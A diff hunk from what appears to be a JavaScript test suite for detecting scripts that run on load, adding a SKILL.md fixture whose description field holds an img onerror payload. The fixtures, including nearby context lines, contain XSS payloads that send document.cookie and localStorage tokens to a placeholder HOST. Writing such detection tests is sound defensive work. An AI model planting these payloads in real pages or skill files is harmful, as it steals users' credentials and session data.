@@ -20,6 +20,7 @@ describe('scripts that run on load', () => {
       raw(`Read [the manual](javascript:fetch("${HOST}")).`),
       raw('Read [the manual][1].\n\n[1]: javascript:alert(document.cookie)'),
       raw(`<a href="&#106;avascript:fetch('${HOST}')">x</a>`),
+      { 'SKILL.md': `---\nname: sample\ndescription: <img src=x onerror=fetch("${HOST}")>\n---\nHello.\n` },
       { 'SKILL.md': 'See notes.md.\n', 'notes.md': `<script>fetch("${HOST}/a")</script>\n` },
       file('page.html', `<script>fetch("${HOST}/?"+document.cookie)</script>`),
       file('page.html', `<script>\nconst t = localStorage.token\nnavigator.sendBeacon("${HOST}", t)\n</script>`),
